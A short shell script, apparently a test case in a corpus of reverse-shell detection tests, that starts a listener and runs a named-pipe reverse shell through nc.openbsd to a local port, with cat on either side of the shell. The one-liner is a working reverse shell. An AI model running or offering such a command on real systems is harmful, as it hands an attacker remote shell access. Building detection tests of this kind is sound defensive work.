# cat on either side of the shell.
. "$CORPUS/lib/common.sh"
attacker listen 31035
mkfifo f
cat f | sh -i 2>&1 | cat | nc.openbsd 127.0.0.1 31035 >f &
verdict
